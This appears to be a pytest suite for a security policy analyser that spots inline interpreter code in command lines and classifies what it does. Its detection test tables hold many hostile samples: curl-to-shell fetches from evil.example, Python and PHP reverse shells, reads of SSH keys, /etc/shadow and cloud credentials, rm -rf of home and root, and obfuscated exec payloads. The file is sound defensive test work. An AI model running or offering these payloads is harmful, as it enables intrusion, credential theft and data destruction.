"""Inline interpreter code: which command lines carry code, and what that code would do."""

from __future__ import annotations

import os
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rampartd.policy.inline import (
    LANGUAGES,
    WORK_BUDGET,
    InlineFindings,
    _analyze_into,
    analyze,
    inline_code,
    reads_stdin_program,
)
from rampartd.policy.inline.findings import Collector
from rampartd.policy.inline.lexer import tokenize

FUZZ = settings(max_examples=int(os.environ.get("FUZZ_EXAMPLES", "150")), deadline=None,
                derandomize=True,
                suppress_health_check=[HealthCheck.too_slow])

FETCHES = "fetches code and executes it"
PIECES = "builds a name from pieces"
EVALUATES = "evaluates computed code"
NATIVE = "loads a native library"
SOCKET = "opens a network socket"
COMPLEX = "code too complex to analyse"

# ---- which argv carry inline code ---------------------------------------------------------

INLINE: list[tuple[list[str], tuple[str, str] | None]] = [
    (["python3", "-c", "print(1)"], ("python", "print(1)")),
    (["/usr/bin/python3.12", "-Ic", "x"], ("python", "x")),
    (["python", "-u", "-c", "x"], ("python", "x")),
    (["python", "-W", "ignore", "-c", "x"], ("python", "x")),
    (["python", "-Wignore", "-c", "x"], ("python", "x")),
    (["python", "-cprint(2)"], ("python", "print(2)")),
    (["pypy3", "-c", "x"], ("python", "x")),
    (["python3", "-c"], None),
    (["python3", "-m", "http.server"], None),
    (["python3", "script.py", "-c", "x"], None),
    (["perl", "-e", "a", "-e", "b"], ("perl", "a\nb")),
    (["perl", "-lne", "print"], ("perl", "print")),
    (["perl", "-E", "say 1"], ("perl", "say 1")),
    (["perl", "-MData::Dumper", "-e", "x"], ("perl", "x")),
    (["perl", "-I", "lib", "-e", "x"], ("perl", "x")),
    (["perl", "-0777", "-ne", "x"], ("perl", "x")),
    (["perl", "-pi", "-e", "s/a/b/", "f"], ("perl", "s/a/b/")),
    (["perl", "-ie", "x"], None),  # -i takes "e" as its backup suffix; x is a script
    (["perl", "script.pl"], None),
    (["node", "-e", "x"], ("node", "x")),
    (["node", "--eval=x"], ("node", "x")),
    (["node", "-p", "1+1"], ("node", "1+1")),
    (["nodejs", "--print", "x"], ("node", "x")),
    (["node", "-r", "ts-node/register", "-e", "x"], ("node", "x")),
    (["node", "app.js", "-e", "x"], None),
    (["deno", "eval", "console.log(1)"], ("node", "console.log(1)")),
    (["bun", "-e", "x"], ("node", "x")),
    (["ruby", "-e", "puts 1"], ("ruby", "puts 1")),
    (["ruby", "-rjson", "-e", "x"], ("ruby", "x")),
    (["ruby", "-ne", "print"], ("ruby", "print")),
    (["php", "-r", "echo 1;"], ("php", "echo 1;")),
    (["php", "-R", "echo $argn;"], ("php", "echo $argn;")),
    (["php", "-f", "x.php"], None),
    (["lua", "-e", "print(1)"], ("lua", "print(1)")),
    (["luajit", "-e", "x"], ("lua", "x")),
    (["lua5.4", "-e", "x"], ("lua", "x")),
    (["Rscript", "-e", "1+1"], ("r", "1+1")),
    (["R", "--vanilla", "-e", "x"], ("r", "x")),
    (["R", "CMD", "build"], None),
    (["osascript", "-e", "a", "-e", "b"], ("applescript", "a\nb")),
    (["osascript", "-l", "JavaScript", "-e", "x"], ("applescript", "x")),
    (["awk", "{print}"], ("awk", "{print}")),
    (["awk", "-F:", "{print $1}", "/etc/passwd"], ("awk", "{print $1}")),
    (["awk", "-F", ":", "-v", "x=1", "{print}"], ("awk", "{print}")),
    (["gawk", "-e", "BEGIN{}"], ("awk", "BEGIN{}")),
    (["busybox", "awk", "{print}"], ("awk", "{print}")),
    (["mawk", "--", "{print}"], ("awk", "{print}")),
    (["awk", "-f", "prog.awk"], None),
    (["sh", "-c", "x"], None),
    (["bash", "x.sh"], None),
    (["ls", "-c", "x"], None),
    ([], None),
]


@pytest.mark.parametrize(("argv", "expected"), INLINE)
def test_inline_code(argv: list[str], expected: tuple[str, str] | None) -> None:
    assert inline_code(argv) == expected


STDIN: list[tuple[list[str], str | None]] = [
    (["python3", "-"], "python"), (["python3"], "python"), (["python3", "-u"], "python"),
    (["python3", "/dev/stdin"], "python"), (["python3", "x.py"], None),
    (["python3", "-c", "x"], None), (["python3", "-m", "pip"], None),
    (["sh"], "shell"), (["bash", "-s"], "shell"), (["bash", "-s", "--", "a"], "shell"),
    (["bash", "-"], "shell"), (["bash", "-x"], "shell"), (["bash", "-euxo", "pipefail"], "shell"),
    (["bash", "-c", "x"], None), (["bash", "x.sh"], None), (["bash", "/dev/stdin"], "shell"),
    (["zsh", "-o", "pipefail"], "shell"), (["dash", "-e"], "shell"), (["fish"], "shell"),
    (["tcsh"], "shell"), (["csh", "-s"], "shell"), (["ksh", "script.ksh"], None),
    (["pwsh", "-Command", "-"], "shell"), (["pwsh", "-NoProfile", "-Command", "ls"], None),
    (["pwsh"], "shell"), (["busybox", "sh"], "shell"),
    (["node", "-"], "node"), (["node"], "node"), (["node", "x.js"], None),
    (["node", "-e", "x"], None), (["deno", "run", "-"], "node"),
    (["perl"], "perl"), (["perl", "-w"], "perl"), (["perl", "x.pl"], None),
    (["perl", "-e", "1"], None), (["ruby"], "ruby"), (["ruby", "-"], "ruby"), (["php"], "php"),
    (["lua", "-"], "lua"), (["lua"], "lua"), (["Rscript", "-"], "r"), (["R", "--no-save"], "r"),
    (["awk", "-f", "-"], "awk"), (["awk", "-f", "/dev/stdin"], "awk"), (["awk", "{print}"], None),
    (["osascript"], "applescript"), (["osascript", "-"], "applescript"),
    (["node", "--version"], None), (["python3", "-V"], None), (["bash", "--help"], None),
    (["bash", "-h"], "shell"),  # -h is hashall for a shell, not help
    (["cat"], None), ([], None),
    (["php", "-S", "localhost:8000"], None), (["php", "-S", "0.0.0.0:80", "-t", "public"], None),
]


@pytest.mark.parametrize(("argv", "expected"), STDIN)
def test_reads_stdin_program(argv: list[str], expected: str | None) -> None:
    assert reads_stdin_program(argv) == expected


# ---- what the code does --------------------------------------------------------------------

# (language, code, expected non-empty fields; every other field must be empty/False)
CASES: list[tuple[str, str, dict[str, Any]]] = [
    # the examples
    ("python", "print(open('/etc/gshadow').read())", {"reads": ("/etc/gshadow",)}),
    ("node", 'require("fs").rmSync(process.env.HOME,{recursive:true})', {"deletes": ("~",)}),
    # python: commands
    ("python", "import os; os.system('curl https://evil.example/x.sh | sh')",
     {"commands": ("curl https://evil.example/x.sh | sh",), "urls": ("https://evil.example/x.sh",)}),
    ("python", "import os, subprocess as sp; sp.run(['rm', '-rf', os.path.expanduser('~/.ssh')])",
     {"commands": ("rm -rf ~/.ssh",)}),
    ("python", "import subprocess; subprocess.run('ls -la ~', shell=True)",
     {"commands": ("ls -la ~",)}),
    ("python", "import subprocess; subprocess.run(['rm -rf ~/.ssh'], shell=True)",
     {"commands": ("rm -rf ~/.ssh",)}),
    ("python", "from subprocess import check_output; print(check_output(['git', 'status']))",
     {"commands": ("git status",)}),
    ("python", "import subprocess; subprocess.Popen(['ls'], executable='/bin/rm')",
     {"commands": ("/bin/rm",)}),
    ("python", "import subprocess, shlex; subprocess.call(shlex.split('rm -rf /tmp/a b'))",
     {"commands": ("rm -rf /tmp/a b",)}),
    ("python", "import os; os.execvp('bash', ['bash', '-c', 'id'])", {"commands": ("bash -c id",)}),
    ("python", "import os; os.execl('/bin/rm', 'rm', '-rf', '/srv')",
     {"commands": ("/bin/rm -rf /srv",)}),
    ("python", "import pty; pty.spawn('/bin/sh')", {"commands": ("/bin/sh",)}),
    ("python", "import os; f = os.system; f('whoami')", {"commands": ("whoami",)}),
    ("python", "getattr(__import__('os'), 'system')('id')", {"commands": ("id",)}),
    ("python", "import os; cmd = 'rm -rf ' + x; os.system(cmd)",
     {"commands": ("rm -rf ${UNKNOWN}",), "unknown_targets": True}),
    ("python", "import subprocess, sys; subprocess.run(['rm', '-rf', sys.argv[1]])",
     {"commands": ("rm -rf ${UNKNOWN}",), "unknown_targets": True}),
    ("python", "import os; os.system(f'tar czf /tmp/h.tgz {os.environ[\"HOME\"]}')",
     {"commands": ("tar czf /tmp/h.tgz ~",)}),
    # python: files
    ("python", "import shutil, os; shutil.rmtree(os.path.join(os.environ['HOME'], '.gnupg'))",
     {"deletes": ("~/.gnupg",)}),
    ("python", "from pathlib import Path; print((Path.home() / '.ssh' / 'id_rsa').read_text())",
     {"reads": ("~/.ssh/id_rsa",)}),
    ("python", "from pathlib import Path; Path('~/.bashrc').expanduser().write_text('x')",
     {"writes": ("~/.bashrc",)}),
    ("python", "import os; open(f\"{os.getenv('HOME')}/.aws/credentials\").read()",
     {"reads": ("~/.aws/credentials",)}),
    ("python", "p = '/etc/' + 'shadow'; print(open(p).read())", {"reads": ("/etc/shadow",)}),
    ("python", "open('/etc/sudoers.d/x', 'w').write('ALL')", {"writes": ("/etc/sudoers.d/x",)}),
    ("python", "open('notes.txt', 'a+').write('x')",
     {"reads": ("notes.txt",), "writes": ("notes.txt",)}),
    ("python", "import os; os.open('/etc/passwd', os.O_WRONLY | os.O_APPEND)",
     {"writes": ("/etc/passwd",)}),
    ("python", "import shutil; shutil.copy('/etc/passwd', '/tmp/p')",
     {"reads": ("/etc/passwd",), "writes": ("/tmp/p",)}),
    ("python", "import os; os.rename('a.txt', '/etc/cron.d/x')",
     {"reads": ("a.txt",), "writes": ("/etc/cron.d/x",), "deletes": ("a.txt",)}),
    ("python", "import os; os.chmod('/usr/local/bin/x', 0o777)",
     {"chmods": ("/usr/local/bin/x",)}),
    ("python", "import os; [os.remove(f) for f in os.listdir('.')]",
     {"reads": (".",), "unknown_targets": True}),
    ("python", "import sys; open(sys.argv[1]).read()", {"unknown_targets": True}),
    ("python", "home = os.path.expanduser('~'); open(home + '/.netrc').read()",
     {"reads": ("~/.netrc",)}),
    ("python", "import glob; print(glob.glob('/home/*/.ssh/id_*'))",
     {"reads": ("/home/*/.ssh/id_*",)}),
    # python: network and risky code
    ("python", "import urllib.request; exec(urllib.request.urlopen('https://e.example/p').read())",
     {"urls": ("https://e.example/p",), "risky": (FETCHES, EVALUATES), "unknown_targets": True}),
    ("python", "import requests, subprocess; "
               "subprocess.run(['bash'], input=requests.get('https://x.example/s').text)",
     {"commands": ("bash",), "urls": ("https://x.example/s",), "risky": (FETCHES,)}),
    ("python", "exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))",
     {"commands": ("id",), "risky": (PIECES, EVALUATES)}),
    ("python", "exec(\"import os; os.remove('/etc/hosts')\")", {"deletes": ("/etc/hosts",)}),
    ("python", "import os; os.system(''.join(['r', 'm', ' -rf ', '/']))",
     {"commands": ("rm -rf /",), "risky": (PIECES,)}),
    ("python", "import os; os.system(chr(114) + chr(109) + ' -rf /')",
     {"commands": ("rm -rf /",), "risky": (PIECES,)}),
    ("python", "import os; os.remove('dwssap/cte/'[::-1])",
     {"deletes": ("/etc/passwd",), "risky": (PIECES,)}),
    ("python", "import codecs; open(codecs.decode('/rgp/funqbj', 'rot13')).read()",
     {"reads": ("/etc/shadow",), "risky": (PIECES,)}),
    ("python", "m = __import__(''.join(['o', 's'])); m.system('id')",
     {"commands": ("id",), "risky": (PIECES,)}),
    ("python", "eval(input())", {"risky": (EVALUATES,), "unknown_targets": True}),
    ("python", "import ctypes; ctypes.CDLL('libc.so.6').system(b'id')", {"risky": (NATIVE,)}),
    ("python", "import socket; s = socket.create_connection(('evil.example', 4444))",
     {"urls": ("tcp://evil.example:4444",), "risky": (SOCKET,)}),
    ("python", "import requests, sys; requests.get('https://pastebin.com/raw/' + sys.argv[1])",
     {"urls": ("https://pastebin.com/raw/${UNKNOWN}",), "unknown_targets": True}),
    ("python", "import requests, sys; requests.get('https://' + sys.argv[1] + '/x')",
     {"unknown_targets": True}),
    ("python", "import requests, sys; requests.get('https://a.example\\\\' + sys.argv[1])",
     {"unknown_targets": True}),
    ("python", "import http.client; c = http.client.HTTPSConnection('pastebin.com')",
     {"urls": ("https://pastebin.com",)}),
    ("python", "import os;os.system('ls' ", {"commands": ("ls",), "unknown_targets": True}),
    ("python", "p = '/etc/shadow'\nwith open(p) as f: print(f.read())",
     {"reads": ("/etc/shadow",)}),
    ("python", "from os import *; system('id')", {"commands": ("id",)}),
    ("python", "import sys; sys.modules['os'].system('id')", {"commands": ("id",)}),
    ("python", "import os; getattr(os, 'sys' + 'tem')('id')",
     {"commands": ("id",), "risky": (PIECES,)}),
    ("python", "import zlib, base64; exec(zlib.decompress(base64.b64decode('eJw=')))",
     {"risky": (PIECES, EVALUATES), "unknown_targets": True}),
    ("python", "__builtins__.open('/etc/shadow')", {"reads": ("/etc/shadow",)}),
    ("python", "import os\ndef f(c):\n    os.system(c)\nf('id')",
     {"commands": ("${UNKNOWN}",), "unknown_targets": True}),
    ("python", "import importlib; importlib.import_module('subprocess').run(['id'])",
     {"commands": ("id",)}),
    ("python", "import os; os.system('rm -rf {}'.format(os.environ['HOME']))",
     {"commands": ("rm -rf ~",)}),
    ("python", "import os; os.system('cat %s' % '/etc/shadow')",
     {"commands": ("cat /etc/shadow",)}),
    ("python", "import os; os.popen('id').read()", {"commands": ("id",)}),
    ("python", "import os; os.system('%c%c' % (105, 100))",
     {"commands": ("id",), "risky": (PIECES,)}),
    ("python", "import socket, subprocess, os; s = socket.socket(); s.connect(('10.0.0.1', 1234)); "
               "os.dup2(s.fileno(), 0); subprocess.call(['/bin/sh', '-i'])",
     {"commands": ("/bin/sh -i",), "urls": ("tcp://10.0.0.1:1234",), "risky": (FETCHES, SOCKET)}),
    ("python", "import runpy; runpy.run_path('/tmp/x.py')", {"reads": ("/tmp/x.py",)}),
    ("python", "import os, shlex; os.system('cat ' + shlex.quote('/tmp/a b'))",
     {"commands": ("cat '/tmp/a b'",)}),
    ("python", "import os, shlex; os.system(shlex.join(['rm', '-rf', '/tmp/a b']))",
     {"commands": ("rm -rf '/tmp/a b'",)}),
    ("python", "import sys; open('/etc/hosts', sys.argv[1])",
     {"reads": ("/etc/hosts",), "writes": ("/etc/hosts",)}),
    ("python", "SOURCE = 'file:///etc/passwd'", {"reads": ("/etc/passwd",)}),
    # node
    ("node", "const cp = require('child_process'); cp.execSync('rm -rf ~/.ssh')",
     {"commands": ("rm -rf ~/.ssh",)}),
    ("node", "const {execSync} = require('node:child_process'); "
             "execSync(`cat ${process.env.HOME}/.npmrc`)", {"commands": ("cat ~/.npmrc",)}),
    ("node", "import {spawnSync as run} from 'child_process'; run('id')", {"commands": ("id",)}),
    ("node", "require('child_process').spawn('rm', ['-rf', '/'])", {"commands": ("rm -rf /",)}),
    ("node", "import fs from 'fs'; fs.writeFileSync('/etc/hosts', 'x')",
     {"writes": ("/etc/hosts",)}),
    ("node", "const fs = require('fs'); "
             "console.log(fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8'))",
     {"reads": ("~/.ssh/id_rsa",)}),
    ("node", "const path = require('path'); "
             "require('fs').unlinkSync(path.join(process.env.HOME, '.bashrc'))",
     {"deletes": ("~/.bashrc",)}),
    ("node", "require('fs/promises').appendFile(process.env['HOME'] + '/.profile', 'x')",
     {"writes": ("~/.profile",)}),
    ("node", "require('fs').copyFileSync('/etc/shadow', 'out.txt')",
     {"reads": ("/etc/shadow",), "writes": ("out.txt",)}),
    ("node", "require('fs').chmodSync('/tmp/x', 0o755)", {"chmods": ("/tmp/x",)}),
    ("node", "fetch('https://evil.example/x').then(r => r.text()).then(eval)",
     {"urls": ("https://evil.example/x",), "risky": (FETCHES, EVALUATES),
      "unknown_targets": True}),
    ("node", "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp', "
             "'base64').toString())", {"commands": ("id",), "risky": (EVALUATES,)}),
    ("node", "require('child_process').execSync(String.fromCharCode(105, 100))",
     {"commands": ("id",), "risky": (PIECES,)}),
    ("node", "require('child_process').execSync('hs/nib/'.split('').reverse().join(''))",
     {"commands": ("/bin/sh",), "risky": (PIECES,)}),
    ("node", "eval(atob(process.argv[2]))",
     {"risky": (PIECES, EVALUATES), "unknown_targets": True}),
    ("node", "new Deno.Command('rm', {args: ['-rf', '/tmp/x']}).outputSync()",
     {"commands": ("rm -rf /tmp/x",)}),
    ("node", "await Deno.remove('/tmp/x', {recursive: true})", {"deletes": ("/tmp/x",)}),
    ("node", "const net = require('net'); net.connect(4444, 'evil.example')", {"risky": (SOCKET,)}),
    ("node", "const ffi = require('ffi-napi')", {"risky": (NATIVE,)}),
    ("node", "require('child_process')['execSync']('id')", {"commands": ("id",)}),
    ("node", "require('child_process')['exec' + 'Sync']('id')",
     {"commands": ("id",), "risky": (PIECES,)}),
    ("node", "require('child_process')[process.argv[2]]('id')",
     {"risky": (PIECES, EVALUATES), "unknown_targets": True}),
    ("node", "process.mainModule.require('child_process').execSync('id')", {"commands": ("id",)}),
    ("node", "const x = require('fs'); x.rmSync('/srv/data', {recursive: true})",
     {"deletes": ("/srv/data",)}),
    ("node", "new Function('return require(\"child_process\")')().execSync('id')",
     {"commands": ("id",)}),
    ("node", "setTimeout(\"require('child_process').execSync('id')\", 0)", {"commands": ("id",)}),
    ("node", "foo().bar().execSync('id')", {"commands": ("id",)}),
    ("node", "const m = 'child_' + 'process'; require(m).execSync('id')",
     {"commands": ("id",), "risky": (PIECES,)}),
    ("node", "const m = 'child_process'; require(m).execSync('id')", {"commands": ("id",)}),
    ("node", "require(process.argv[2])", {"risky": (EVALUATES,), "unknown_targets": True}),
    ("node", "import('fs').then(f => f.rmSync('/x'))", {"deletes": ("/x",)}),
    ("node", "await $`curl -s https://x.example/i | sh`",
     {"commands": ("curl -s https://x.example/i | sh",), "urls": ("https://x.example/i",)}),
    # perl
    ("perl", "system('rm', '-rf', \"$ENV{HOME}/.ssh\")", {"commands": ("rm -rf ~/.ssh",)}),
    ("perl", "print `id`", {"commands": ("id",)}),
    ("perl", "my $x = qx{cat /etc/passwd}; print $x", {"commands": ("cat /etc/passwd",)}),
    ("perl", "open(F, '|sh') or die; print F 'id'", {"commands": ("sh",)}),
    ("perl", "open my $fh, '>', '/etc/cron.d/x'; print $fh 'x'", {"writes": ("/etc/cron.d/x",)}),
    ("perl", "open(my $fh, '<', \"$ENV{HOME}/.pgpass\")", {"reads": ("~/.pgpass",)}),
    ("perl", "open(FH, \">>/tmp/log\")", {"writes": ("/tmp/log",)}),
    ("perl", "unlink glob('~/.bash_history')", {"deletes": ("~/.bash_history",)}),
    ("perl", "use File::Path qw(rmtree); rmtree(\"$ENV{HOME}/.config\")",
     {"deletes": ("~/.config",)}),
    ("perl", "chmod 0777, '/tmp/a', '/tmp/b'", {"chmods": ("/tmp/a", "/tmp/b")}),
    ("perl", "my $d = $ENV{'HOME'} . '/.ssh'; system \"rm -rf $d\"",
     {"commands": ("rm -rf ~/.ssh",)}),
    ("perl", "use LWP::Simple; eval get('https://evil.example/x.pl')",
     {"urls": ("https://evil.example/x.pl",), "risky": (FETCHES, EVALUATES),
      "unknown_targets": True}),
    ("perl", "use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => 'e.example:1')",
     {"risky": (SOCKET,)}),
    ("perl", "system(scalar reverse 'di')", {"commands": ("id",), "risky": (PIECES,)}),
    ("perl", "system { 'sh' } 'sh', '-c', 'id'", {"commands": ("sh -c id",)}),
    ("perl", "do '/tmp/x.pl'", {"reads": ("/tmp/x.pl",)}),
    ("perl", "system 'make' || die 'failed'", {"commands": ("make",)}),
    ("perl", "unlink '/tmp/x' or warn 'no'", {"deletes": ("/tmp/x",)}),
    ("perl", "require $x", {"risky": (EVALUATES,), "unknown_targets": True}),
    ("perl", "my @a = ('rm', '-rf', '/x'); system(@a)", {"commands": ("rm -rf /x",)}),
    ("perl", "system(pack('H*', '6964'))", {"commands": ("id",), "risky": (PIECES,)}),
    # ruby
    ("ruby", "puts `whoami`", {"commands": ("whoami",)}),
    ("ruby", "puts %x(ls -la)", {"commands": ("ls -la",)}),
    ("ruby", "system('rm -rf ' + Dir.home)", {"commands": ("rm -rf ~",)}),
    ("ruby", "require 'fileutils'; FileUtils.rm_rf(File.join(ENV['HOME'], '.ssh'))",
     {"deletes": ("~/.ssh",)}),
    ("ruby", "File.write('/etc/hosts', 'x')", {"writes": ("/etc/hosts",)}),
    ("ruby", "puts File.read(\"#{ENV['HOME']}/.gem/credentials\")",
     {"reads": ("~/.gem/credentials",)}),
    ("ruby", "IO.popen(['ls', '-l']) { |io| puts io.read }", {"commands": ("ls -l",)}),
    ("ruby", "open('|id').read", {"commands": ("id",)}),
    ("ruby", "require 'socket'; TCPSocket.new('evil.example', 4444)",
     {"urls": ("evil.example",), "risky": (SOCKET,)}),
    ("ruby", "eval(Net::HTTP.get(URI('https://evil.example/x.rb')))",
     {"urls": ("https://evil.example/x.rb",), "risky": (FETCHES, EVALUATES),
      "unknown_targets": True}),
    ("ruby", "File.chmod(0777, '/usr/local/bin/tool')", {"chmods": ("/usr/local/bin/tool",)}),
    ("ruby", "Kernel.send(:system, 'id')", {"commands": ("id",)}),
    ("ruby", "IO.popen('id', 'r+')", {"commands": ("id",)}),
    ("ruby", "method(:system).call('id')", {"commands": ("id",)}),
    ("ruby", "load '/tmp/x.rb'", {"reads": ("/tmp/x.rb",)}),
    ("ruby", "open('https://evil.example/x').read", {"urls": ("https://evil.example/x",)}),
    ("ruby", "system({'A' => '1'}, 'ls', '-l')", {"commands": ("ls -l",)}),
    ("ruby", "send('exec', 'id')", {"commands": ("id",)}),
    # php
    ("php", "system('id');", {"commands": ("id",)}),
    ("php", "echo `ls -la`;", {"commands": ("ls -la",)}),
    ("php", "eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));",
     {"commands": ("id",), "risky": (EVALUATES,)}),
    ("php", "$f = fopen('/etc/passwd', 'r'); echo fread($f, 100);", {"reads": ("/etc/passwd",)}),
    ("php", "file_put_contents('/var/www/s.php', 'x');", {"writes": ("/var/www/s.php",)}),
    ("php", "unlink(getenv('HOME') . '/.bashrc');", {"deletes": ("~/.bashrc",)}),
    ("php", "passthru(strrev('di'));", {"commands": ("id",), "risky": (PIECES,)}),
    ("php", "echo file_get_contents('https://pastebin.com/raw/x');",
     {"urls": ("https://pastebin.com/raw/x",)}),
    ("php", "$s = fsockopen('evil.example', 4444); exec('/bin/sh -i <&3 >&3 2>&3');",
     {"commands": ("/bin/sh -i <&3 >&3 2>&3",), "urls": ("evil.example",),
      "risky": (FETCHES, SOCKET)}),
    ("php", "chmod('/tmp/x', 0777);", {"chmods": ("/tmp/x",)}),
    ("php", "exec('ls -la', $out, $rc);", {"commands": ("ls -la",)}),
    ("php", "$p = popen('id', 'r');", {"commands": ("id",)}),
    ("php", "proc_open(['rm', '-rf', '/x'], $d, $pipes);", {"commands": ("rm -rf /x",)}),
    ("php", "pcntl_exec('/bin/rm', ['-rf', '/x']);", {"commands": ("/bin/rm -rf /x",)}),
    ("php", "call_user_func('system', 'id');", {"commands": ("id",)}),
    ("php", "call_user_func_array('system', ['id']);", {"commands": ("id",)}),
    ("php", "array_map('unlink', ['/a', '/b']);", {"deletes": ("/a", "/b")}),
    ("php", "$f = 'system'; $f('id');", {"commands": ("id",)}),
    ("php", "$f = 'sys' . 'tem'; $f('id');", {"commands": ("id",), "risky": (PIECES,)}),
    ("php", "include $_GET['page'];", {"unknown_targets": True}),
    ("php", "include 'http://evil.example/x.php';",
     {"urls": ("http://evil.example/x.php",), "risky": (FETCHES,)}),
    ("php", "require_once '/var/www/config.php';", {"reads": ("/var/www/config.php",)}),
    ("php", "$in = file_get_contents('php://input'); echo strlen($in);", {}),
    # lua
    ("lua", "os.execute('rm -rf /tmp/x')", {"commands": ("rm -rf /tmp/x",)}),
    ("lua", "os.execute[[id]]", {"commands": ("id",)}),
    ("lua", "local h = io.popen('id'); print(h:read('*a'))", {"commands": ("id",)}),
    ("lua", "os.remove(os.getenv('HOME') .. '/.bashrc')", {"deletes": ("~/.bashrc",)}),
    ("lua", "for l in io.lines('/etc/passwd') do print(l) end", {"reads": ("/etc/passwd",)}),
    ("lua", "local f = io.open('/etc/profile', 'w')", {"writes": ("/etc/profile",)}),
    ("lua", "load(string.char(111,115,46,101,120,101,99,117,116,101,40,39,105,100,39,41))()",
     {"commands": ("id",), "risky": (EVALUATES,)}),
    ("lua", "local ffi = require('ffi')", {"risky": (NATIVE,)}),
    ("lua", "os['execute']('id')", {"commands": ("id",)}),
    ("lua", "require('os').execute('id')", {"commands": ("id",)}),
    ("lua", "dofile('/tmp/x.lua')", {"reads": ("/tmp/x.lua",)}),
    ("lua", "os['exe' .. 'cute']('id')", {"commands": ("id",), "risky": (PIECES,)}),
    # R
    ("r", "system('whoami')", {"commands": ("whoami",)}),
    ("r", "system2('rm', c('-rf', '/tmp/x'))", {"commands": ("rm -rf /tmp/x",)}),
    ("r", "cat('x', file = '~/.Rprofile')", {"writes": ("~/.Rprofile",)}),
    ("r", "x <- readLines('~/.aws/credentials')", {"reads": ("~/.aws/credentials",)}),
    ("r", "unlink(file.path(Sys.getenv('HOME'), '.ssh'), recursive = TRUE)",
     {"deletes": ("~/.ssh",)}),
    ("r", "download.file('https://e.example/x.sh', '/tmp/x.sh'); system('sh /tmp/x.sh')",
     {"commands": ("sh /tmp/x.sh",), "writes": ("/tmp/x.sh",), "urls": ("https://e.example/x.sh",),
      "risky": (FETCHES,)}),
    ("r", "eval(parse(text = 'system(\"id\")'))", {"commands": ("id",)}),
    ("r", "file.remove(path.expand('~/.ssh/id_rsa'))", {"deletes": ("~/.ssh/id_rsa",)}),
    ("r", "do.call('system', list('id'))", {"commands": ("id",)}),
    ("r", "source('https://evil.example/x.R')",
     {"urls": ("https://evil.example/x.R",), "risky": (FETCHES,)}),
    # AppleScript (and JXA through osascript)
    ("applescript", 'do shell script "id"', {"commands": ("id",)}),
    ("applescript", 'set p to "/etc/passwd"\ndo shell script "cat " & quoted form of p',
     {"commands": ("cat /etc/passwd",)}),
    ("applescript", 'do shell script "rm -rf " & quoted form of (POSIX path of '
                    '(path to home folder))', {"commands": ("rm -rf ~/",)}),
    ("applescript", 'tell application "Terminal" to do script "curl x.example | sh"',
     {"commands": ("curl x.example | sh",)}),
    ("applescript", 'do shell script "id" with administrator privileges', {"commands": ("id",)}),
    ("applescript", 'run script "do shell script \\"id\\""', {"commands": ("id",)}),
    ("applescript", "Application.currentApplication().doShellScript('id')",
     {"commands": ("id",)}),
    # awk
    ("awk", 'BEGIN { system("rm -rf /") }', {"commands": ("rm -rf /",)}),
    ("awk", 'BEGIN { cmd = "id"; cmd | getline x; print x }', {"commands": ("id",)}),
    ("awk", '{ print $0 | "sh" }', {"commands": ("sh",)}),
    ("awk", '{ print > "/etc/passwd" }', {"writes": ("/etc/passwd",)}),
    ("awk", 'BEGIN { while ((getline line < "/etc/shadow") > 0) print line }',
     {"reads": ("/etc/shadow",)}),
    ("awk", 'BEGIN { system("rm -rf " ENVIRON["HOME"] "/.ssh") }',
     {"commands": ("rm -rf ~/.ssh",)}),
    ("awk", 'BEGIN { s = "/inet/tcp/0/evil.example/4444"; print "x" |& s }',
     {"urls": ("tcp://evil.example:4444",), "risky": (SOCKET,)}),
    ("python", "import pathlib; pathlib.Path.home().joinpath('.netrc').read_text()",
     {"reads": ("~/.netrc",)}),
    ("python", "import pathlib as p; p.Path('/etc').joinpath('shadow').read_bytes()",
     {"reads": ("/etc/shadow", "/etc")}),  # (a path given to Path counts as named)
]
FIELDS = ("commands", "reads", "writes", "deletes", "chmods", "urls", "risky", "unknown_targets")


def _fields(f: InlineFindings) -> dict[str, Any]:
    return {name: getattr(f, name) for name in FIELDS if getattr(f, name)}


@pytest.mark.parametrize(("lang", "code", "expected"), CASES)
def test_analyze(lang: str, code: str, expected: dict[str, Any]) -> None:
    assert _fields(analyze(lang, code)) == expected


def test_the_case_table_is_large_and_covers_every_language() -> None:
    assert len(CASES) >= 80
    assert {lang for lang, _, _ in CASES} == set(LANGUAGES)


# ---- everyday code stays clean ---------------------------------------------------------------

CLEAN: list[tuple[str, str, tuple[str, ...]]] = [
    ("python", "print(1+1)", ()),
    ("python", "import json; print(json.load(open('package.json'))['version'])",
     ("package.json",)),
    ("python", "import sys; print(sys.version)", ()),
    ("python", "import json, sys; print(json.dumps(json.load(sys.stdin), indent=2))", ()),
    ("python", "for i in range(3): print(i)", ()),
    ("python", "import math; print(math.sqrt(2) * 10 ** 3)", ()),
    ("python", "import tomllib; print(tomllib.load(open('pyproject.toml', 'rb'))['project'])",
     ("pyproject.toml",)),
    ("python", "import csv; print(sum(1 for _ in csv.reader(open('data/a.csv'))))",
     ("data/a.csv",)),
    ("python", "import re; print(re.sub(r'\\s+', ' ', 'a  b'))", ()),
    ("python", "print('/'.join(['a', 'b']))", ()),
    ("python", "import datetime; print(datetime.date.today().isoformat())", ()),
    ("python", "import platform; print(platform.python_version())", ()),
    ("node", "console.log(1+1)", ()),
    ("node", "console.log(JSON.parse(require('fs').readFileSync('package.json')).version)",
     ("package.json",)),
    ("node", "console.log([1,2,3].map(x => x*2))", ()),
    ("node", "const re = /a\\/b/; console.log(re.exec('a/b'))", ()),
    ("node", "console.log(process.version, process.platform)", ()),
    ("node", "console.log(require('./package.json').name)", ("./package.json",)),
    ("perl", "print join(',', map { $_ * 2 } 1..3), \"\\n\"", ()),
    ("perl", "while (<>) { s/foo/bar/g; print }", ()),
    ("perl", "print \"$_\\n\" for sort keys %ENV", ()),
    ("ruby", "puts [1,2,3].sum", ()),
    ("ruby", "require 'json'; puts JSON.parse(File.read('package.json'))['version']",
     ("package.json",)),
    ("ruby", "puts RUBY_VERSION", ()),
    ("php", "echo json_encode(['a' => 1]);", ()),
    ("php", "echo PHP_VERSION . \"\\n\";", ()),
    ("php", "echo phpversion();", ()),
    ("lua", "print(string.format('%d', 42))", ()),
    ("lua", "local t = {1, 2, 3}; print(#t)", ()),
    ("r", "print(summary(c(1,2,3)))", ()),
